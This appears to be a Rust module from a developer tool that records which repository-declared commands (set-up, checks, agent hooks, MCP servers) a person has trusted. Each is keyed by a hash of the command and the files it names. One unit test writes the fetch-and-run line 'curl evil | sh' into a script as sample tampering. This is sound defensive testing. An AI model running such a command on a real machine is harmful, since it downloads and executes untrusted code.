//! What a repository brings along to be run: trusted by a person, item by item, by the hash of what would run.
//!
//! A project's file declares set-up commands and checks; none of them runs before it is trusted, and one that changed (its
//! words, or a file of the repository that they name, as it is committed) is not trusted any more. Start at [`Trusted`].

use crate::home::create_private;
use crate::{cage, plain};
use contract::checks::{CheckDef, CheckJob, CheckOutput, Checks, Suite};
use contract::confine::Confinement;
use contract::error::UNTRUSTED;
use contract::hooks::HookDef;
use contract::port::Sink;
use contract::{BoxFuture, Cancel, Digest, Fault, Kind};
use std::collections::{BTreeMap, BTreeSet};
use std::io::Write;
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use workspace::{Committed, Git, Listing, below};

/// Where a check was declared, not found.
const DECLARED: &str = ".kapell/config.toml";

/// Something that would run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Item {
    /// `setup`, or the check's name.
    pub(crate) name: String,
    /// The command.
    pub(crate) run: String,
    /// Over the repository, the command, and the files it names.
    pub(crate) hash: Digest,
}

/// What files hold, by their paths from the top of the tree.
type Held = BTreeMap<String, Digest>;

/// What a suite would run of a repository's: declared checks, and with them the set-up. What is found where nothing is
/// declared are Kapell's words; what they run is the repository's all the same, and needs a word where nothing `confines` it.
async fn items(suite: &Suite, repo: &str, listing: &Listing, confines: bool) -> Result<Vec<Item>, Fault> {
    let runs: Vec<&CheckDef> =
        suite.checks.iter().filter(|check| check.from == DECLARED || !confines).collect();
    let setup = suite.setup.iter().filter(|_| !runs.is_empty()).map(|run| ("setup", run.as_str()));
    let checks = runs.iter().map(|check| (check.name.as_str(), check.run.as_str()));
    let mut items = Vec::new();
    for (name, run) in setup.chain(checks) {
        let held = committed(listing, run).await?;
        items.push(Item { name: name.into(), run: run.into(), hash: hash(repo, name, run, &held) });
    }
    Ok(items)
}

/// A hook that a project brings along, with the files that it names as the tree has them now.
pub(crate) fn hook_item(hook: &HookDef, repo: &str, tree: &Path) -> Item {
    let held = in_tree(tree, &here(hook));
    hooked(hook, repo, &held)
}

/// Where the workspace is named, what stands behind it is a file of it.
fn here(hook: &HookDef) -> String {
    let here = ["\"${CLAUDE_PROJECT_DIR}\"/", "\"$CLAUDE_PROJECT_DIR\"/", "${CLAUDE_PROJECT_DIR:-.}/"]
        .into_iter()
        .chain(["${CLAUDE_PROJECT_DIR}/", "$CLAUDE_PROJECT_DIR/"]);
    here.fold(hook.run.clone(), |run, dir| run.replace(dir, "./"))
}

fn hooked(hook: &HookDef, repo: &str, held: &Held) -> Item {
    let name = format!("hook {} {} {}", hook.event.name(), hook.matcher, hook.only);
    let name = name.trim_end().to_owned();
    let hash = Digest::chain(&hash(repo, &name, &here(hook), held), hook.run.as_bytes());
    Item { name, run: hook.run.clone(), hash }
}

/// Everything that a repository declares to be run: checks and set-up of this commit, and the hooks that its tree
/// declares, with the files that each names as they are committed.
pub(crate) async fn all(
    suite: &Suite,
    repo: &str,
    tree: &Path,
    listing: &Listing,
    confines: bool,
) -> Result<Vec<Item>, Fault> {
    let mut all = items(suite, repo, listing, confines).await?;
    for hook in crate::hooks::file::project(tree).map_err(|failure| failure.fault)?.hooks {
        all.push(hooked(&hook, repo, &committed(listing, &here(&hook)).await?));
    }
    Ok(all)
}

/// Something that runs by itself: in this repository, under this name, `run` for people, and all that it does.
pub(crate) fn by_itself(repo: &str, name: String, run: String, does: &serde_json::Value) -> Item {
    let hash = Digest::chain(&hash(repo, &name, "", &Held::new()), does.to_string().as_bytes());
    Item { name, run, hash }
}

/// A server that a project declares, with the files that it names as this tree has them now: by the hash of all it says.
pub(crate) fn served(server: &client::Server, repo: &str, tree: &Path) -> Item {
    let (name, run) = (format!("mcp {}", server.name), server.run());
    let hash =
        Digest::chain(&hash(repo, &name, &run, &in_tree(tree, &run)), server.does().to_string().as_bytes());
    Item { name, run, hash }
}

fn hash(repo: &str, name: &str, run: &str, held: &Held) -> Digest {
    let begin = Digest::chain(&Digest::of(repo.as_bytes()), format!("{name}\0{run}").as_bytes());
    held.iter().fold(begin, |hash, (name, content)| {
        Digest::chain(&hash, &[name.as_bytes(), b"\0", &content.0].concat())
    })
}

/// Files that programs take their commands from, whoever calls them.
const RECIPES: [(&[&str], &[&str]); 5] = [
    (&["make", "gmake"], &["Makefile", "makefile", "GNUmakefile"]),
    (&["npm", "npx", "yarn", "pnpm", "bun"], &["package.json"]),
    (&["just"], &["justfile", "Justfile", ".justfile"]),
    (&["cargo"], &["build.rs", ".cargo/config.toml", ".cargo/config"]),
    (&["pytest"], &["conftest.py", "tests/conftest.py"]),
];

/// The paths from the top that the words of a command may stand for, there and where it goes (`cd`); in the last part of
/// one `*` stands for anything. What the shell makes of variables is not known.
fn named(run: &str) -> Vec<String> {
    let ends = |c: char| c.is_whitespace() || "'\"`;|&<>()$=".contains(c);
    let whole = run.split(ends).filter(|word| !word.is_empty() && !word.starts_with('/'));
    let words: Vec<String> = whole.flat_map(braced).collect();
    let into = words.windows(2).filter(|two| two[0] == "cd").map(|two| two[1].as_str());
    let dirs: Vec<&str> = std::iter::once("").chain(into).collect();
    let modules = words.windows(2).filter(|two| two[0] == "-m").flat_map(|two| {
        let module = two[1].replace('.', "/");
        ["", "/__main__", "/__init__"].map(|end| format!("{module}{end}.py"))
    });
    let read = words.iter().flat_map(|word| {
        let program = word.rsplit('/').next().unwrap_or(word);
        RECIPES.iter().filter(move |(programs, _)| programs.contains(&program)).flat_map(|(_, files)| *files)
    });
    let names: BTreeSet<String> =
        words.iter().cloned().chain(modules).chain(read.map(|name| (*name).to_owned())).collect();
    let at = |dir: &&str| names.iter().filter_map(|name| below(&format!("{dir}/{name}"))).collect::<Vec<_>>();
    dirs.iter().flat_map(at).collect::<BTreeSet<_>>().into_iter().collect()
}

/// `{a,b}.sh` is `a.sh` and `b.sh`.
fn braced(word: &str) -> Vec<String> {
    let parts = word.split_once('{').and_then(|(front, rest)| Some((front, rest.split_once('}')?)));
    match parts {
        Some((front, (list, behind))) if list.contains(',') => {
            list.split(',').map(|one| format!("{front}{one}{behind}")).collect()
        }
        _ => vec![word.to_owned()],
    }
}

/// Is it one of those that a pattern stands for? `*` stands for anything in the last part.
fn fits(pattern: &str, name: &str) -> bool {
    let cut = |path: &str| {
        path.rsplit_once('/').map_or((String::new(), path.to_owned()), |(a, b)| (a.into(), b.into()))
    };
    let ((dir, pattern), (of, name)) = (cut(pattern), cut(name));
    let mut pieces = pattern.split('*');
    let first = pieces.next().unwrap_or_default();
    let Some(mut rest) = name.strip_prefix(first).filter(|_| dir == of) else { return false };
    let mut pieces: Vec<&str> = pieces.collect();
    let last = pieces.pop().unwrap_or_default();
    for piece in pieces {
        let Some(at) = rest.find(piece) else { return false };
        rest = &rest[at + piece.len()..];
    }
    rest.ends_with(last)
}

/// What stands in the place of content that is none of the tree's, or cannot be read: nothing else takes it unseen.
fn elsewhere() -> Digest {
    Digest::of(b"no plain file of the tree")
}

/// What a command names, as it is committed.
async fn committed(listing: &Listing, run: &str) -> Result<Held, Fault> {
    let (patterns, mut names): (Vec<String>, Vec<String>) =
        named(run).into_iter().partition(|name| name.contains('*'));
    let matched = listing.names().filter(|name| patterns.iter().any(|pattern| fits(pattern, name)));
    names.extend(matched.map(str::to_owned));
    let held = listing.committed(&names).await?.into_iter().map(|(name, it)| match it {
        Committed::File(bytes) => (name, Digest::of(&bytes)),
        Committed::Elsewhere => (name, elsewhere()),
    });
    Ok(held.collect())
}

/// What a command names, as this tree has it now.
fn in_tree(tree: &Path, run: &str) -> Held {
    let beside = |pattern: &str| -> Vec<String> {
        let dir = pattern.rsplit_once('/').map_or("", |(dir, _)| dir);
        let entries = std::fs::read_dir(tree.join(dir)).into_iter().flatten().flatten();
        let names = entries.filter_map(|entry| entry.file_name().into_string().ok());
        names.filter_map(|name| below(&format!("{dir}/{name}"))).filter(|name| fits(pattern, name)).collect()
    };
    let names = named(run).into_iter().flat_map(|name| match name.contains('*') {
        true => beside(&name),
        false => vec![name],
    });
    names.filter_map(|name| Some((name.clone(), content(tree, &tree.join(&name))?))).collect()
}

/// What a file of the tree holds, by its digest. `None`: there is no such file.
fn content(tree: &Path, path: &Path) -> Option<Digest> {
    path.symlink_metadata().ok().filter(|meta| !meta.is_dir())?;
    let other = Some(elsewhere());
    let (Ok(top), Ok(real)) = (tree.canonicalize(), path.canonicalize()) else { return other };
    if !real.starts_with(top) || real.is_dir() {
        return other;
    }
    plain::read(&real, u64::MAX).ok().map(|bytes| Digest::of(&bytes)).or(other)
}

/// The record of what is trusted.
#[derive(Debug, Clone)]
pub(crate) struct Trust {
    path: PathBuf,
    /// Where the sessions' clones are: what they borrow from beyond it is the person's repository.
    state: PathBuf,
    /// KAPELL_TRUST=all: a machine that is thrown away, or a test.
    all: bool,
}

impl Trust {
    pub(crate) fn new(home: &crate::home::Home, all: bool) -> Self {
        Self { path: home.data.join("trust"), state: home.state.clone(), all }
    }

    /// The hashes that are trusted.
    pub(crate) fn hashes(&self) -> Result<BTreeSet<Digest>, Fault> {
        Ok(self.text()?.lines().filter_map(|line| line.split(' ').next()?.parse().ok()).collect())
    }

    /// A hash and the repository it was trusted in, per line.
    fn text(&self) -> Result<String, Fault> {
        match std::fs::read_to_string(&self.path) {
            Ok(text) => Ok(text),
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(String::new()),
            Err(error) => Err(self.fault(&error)),
        }
    }

    /// From here on these are trusted; or nothing of this repository is any more, whatever it was like when it was.
    pub(crate) fn set(&self, items: &[Item], repo: &str, trusted: bool) -> Result<(), Fault> {
        create_private(self.path.parent().unwrap_or(Path::new("/")))?;
        // One at a time: what another adds meanwhile must not be lost.
        let lock = std::fs::File::options()
            .create(true)
            .truncate(false)
            .write(true)
            .open(self.path.with_extension("lock"));
        let _lock = lock.and_then(|file| file.lock().map(|()| file)).map_err(|error| self.fault(&error))?;
        let own = format!(" {}", repo.replace(['\n', '\r'], "?"));
        let mut lines: BTreeSet<String> = self.text()?.lines().map(str::to_owned).collect();
        for item in items {
            let hash = item.hash.to_string();
            lines.retain(|line| !line.starts_with(&hash));
            lines.extend(trusted.then(|| format!("{hash}{own}")));
        }
        lines.retain(|line| trusted || !line.ends_with(&own));
        let beside = self.path.with_extension(format!("new.{}", std::process::id()));
        let text: String = lines.iter().map(|line| format!("{line}\n")).collect();
        let write = || {
            let mut file =
                std::fs::File::options().create(true).truncate(true).write(true).mode(0o600).open(&beside)?;
            file.write_all(text.as_bytes()).and_then(|()| file.sync_all())?;
            std::fs::rename(&beside, &self.path)
        };
        write().map_err(|error| self.fault(&error))
    }

    /// Those that nobody trusted yet.
    pub(crate) fn unknown(&self, items: Vec<Item>) -> Result<Vec<Item>, Fault> {
        if self.all || items.is_empty() {
            return Ok(Vec::new());
        }
        let hashes = self.hashes()?;
        Ok(items.into_iter().filter(|item| !hashes.contains(&item.hash)).collect())
    }

    /// The name of the repository that this tree belongs to: where its objects are.
    pub(crate) fn repo(&self, tree: &Path) -> String {
        let git = git_dir(tree);
        let borrowed = std::fs::read_to_string(git.join("objects/info/alternates")).unwrap_or_default();
        let state = std::fs::canonicalize(&self.state).unwrap_or_else(|_| self.state.clone());
        let of_a_session = tree.starts_with(&self.state) || tree.starts_with(&state);
        let outside = borrowed
            .lines()
            .map(PathBuf::from)
            .find(|path| !path.starts_with(&self.state) && !path.starts_with(&state));
        let objects = outside.filter(|_| of_a_session).unwrap_or_else(|| git.join("objects"));
        std::fs::canonicalize(&objects).unwrap_or(objects).to_string_lossy().into_owned()
    }

    fn fault(&self, error: &std::io::Error) -> Fault {
        let what = format!("{} cannot be used: {error}", self.path.display());
        Fault::new(Kind::UserFixable, "trust", what).hint("make it a readable file of yours, or remove it")
    }
}

/// The common directory of git for this tree: of a linked work tree, that of the main one.
fn git_dir(tree: &Path) -> PathBuf {
    let git = tree.join(".git");
    if git.is_dir() {
        return git;
    }
    let Ok(text) = std::fs::read_to_string(&git) else { return tree.to_owned() };
    let linked = tree.join(text.trim().trim_start_matches("gitdir:").trim());
    let common = std::fs::read_to_string(linked.join("commondir")).unwrap_or_default();
    if common.trim().is_empty() { linked } else { linked.join(common.trim()) }
}

/// Finds and runs checks, and refuses those that nobody trusts: nothing of a session goes on before.
pub(crate) struct Trusted {
    pub(crate) git: Arc<Git>,
    pub(crate) trust: Trust,
    /// What confines commands.
    pub(crate) sandbox: Confinement,
}

impl Checks for Trusted {
    fn find(&self, tree: PathBuf, commit: String) -> BoxFuture<'_, Result<Suite, Fault>> {
        Box::pin(async move {
            let suite = self.git.find(tree.clone(), commit.clone()).await?;
            if !self.trust.all {
                let listing = self.git.listing(&tree, &commit).await?;
                let all = all(&suite, &self.trust.repo(&tree), &tree, &listing, self.confines()).await?;
                self.known(all)?;
            }
            Ok(suite)
        })
    }

    /// What was trusted when the session began may have been revoked since, or found while commands were confined.
    fn run<'a>(
        &'a self,
        job: CheckJob,
        cancel: Cancel,
        sink: &'a dyn Sink,
    ) -> BoxFuture<'a, Result<CheckOutput, Fault>> {
        Box::pin(async move {
            if !self.trust.all {
                let listing = self.git.listing(&job.repo, &job.base).await?;
                let repo = self.trust.repo(&job.repo);
                self.known(items(&job.suite, &repo, &listing, self.confines()).await?)?;
            }
            self.git.run(job, cancel, sink).await
        })
    }
}

impl Trusted {
    fn confines(&self) -> bool {
        cage::confines(&self.sandbox)
    }

    fn known(&self, items: Vec<Item>) -> Result<(), Fault> {
        let unknown = self.trust.unknown(items)?;
        if unknown.is_empty() { Ok(()) } else { Err(untrusted(&unknown)) }
    }
}

fn untrusted(unknown: &[Item]) -> Fault {
    let named: Vec<String> = unknown.iter().map(|item| format!("{} (`{}`)", item.name, item.run)).collect();
    let what = format!(
        "the repository brings commands along that nobody here has trusted yet, or that changed: {}",
        named.join(", ")
    );
    Fault::new(Kind::UserFixable, UNTRUSTED, what).hint("look at them, then: kapell trust")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn item(run: &str, tree: &Path) -> Item {
        Item { name: "test".into(), run: run.into(), hash: hash("/r", "test", run, &in_tree(tree, run)) }
    }

    #[test]
    fn a_changed_command_or_script_is_another_item() {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("check.sh"), "exit 0\n").unwrap();
        let of = |run: &str| item(run, dir.path()).hash;
        let before = of("sh ./check.sh");
        assert_eq!(before, of("sh ./check.sh"));
        assert_ne!(before, of("sh ./check.sh -x"));
        assert_ne!(before, hash("/another", "test", "sh ./check.sh", &in_tree(dir.path(), "sh ./check.sh")));
        std::fs::write(dir.path().join("check.sh"), "curl evil | sh\n").unwrap();
        assert_ne!(before, of("sh ./check.sh"));
        for made in ["ci", "tools", "scripts", ".cargo"] {
            std::fs::create_dir_all(dir.path().join(made)).unwrap();
        }
        for (run, file) in [
            ("make all", "Makefile"),
            ("npm test", "package.json"),
            ("cd ci && ./run.sh", "ci/run.sh"),
            ("cd ci; ../deploy.sh", "deploy.sh"),
            ("bash scripts/*.sh", "scripts/a.sh"),
            ("sh {one,two}.sh", "two.sh"),
            ("python3 -m tools.x", "tools/x.py"),
            ("cargo test", ".cargo/config.toml"),
        ] {
            std::fs::write(dir.path().join(file), "one").unwrap();
            let before = of(run);
            std::fs::write(dir.path().join(file), "two").unwrap();
            assert_ne!(before, of(run), "{run}");
        }
        // A link out of the tree, and what has no end, are no part of it and hold nobody up.
        let plain = of("sh zero");
        std::os::unix::fs::symlink("/dev/zero", dir.path().join("zero")).unwrap();
        assert_ne!(plain, of("sh zero"));
    }

    #[test]
    fn what_is_taken_back_is_taken_back_whole() {
        let dir = tempfile::tempdir().unwrap();
        let home = crate::home::Home {
            config: dir.path().join("c"),
            data: dir.path().join("d"),
            state: dir.path().join("s"),
            cache: dir.path().join("k"),
        };
        let trust = Trust::new(&home, false);
        let items = ["make", "make test"].map(|run| item(run, dir.path())).to_vec();
        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
        trust.set(&items, "/r", true).unwrap();
        assert!(trust.unknown(items.clone()).unwrap().is_empty());
        trust.set(&[], "/another", false).unwrap();
        assert!(trust.unknown(items.clone()).unwrap().is_empty());
        // Whatever it was like when it was trusted: all of it is taken back.
        trust.set(&[], "/r", false).unwrap();
        assert_eq!(trust.unknown(items.clone()).unwrap().len(), 2);
        assert!(Trust::new(&home, true).unknown(items).unwrap().is_empty());
    }

    #[test]
    fn names_are_those_of_the_tree() {
        let names = |run: &str| named(run).join(" ");
        assert_eq!(names("sh ./a.sh '/etc/x'"), "a.sh sh");
        assert_eq!(names("cd ../x && ./y"), "cd y");
        assert_eq!(names("cd x;./../y"), "cd x x/cd x/x y");
        for (pattern, name, is) in [
            ("scripts/*.sh", "scripts/a.sh", true),
            ("scripts/*.sh", "scripts/deep/a.sh", false),
            ("*", "a", true),
            ("a*b*c", "axbxc", true),
            ("a*bc", "abc", true),
            ("a*bc", "ab", false),
        ] {
            assert_eq!(fits(pattern, name), is, "{pattern} {name}");
        }
    }
}
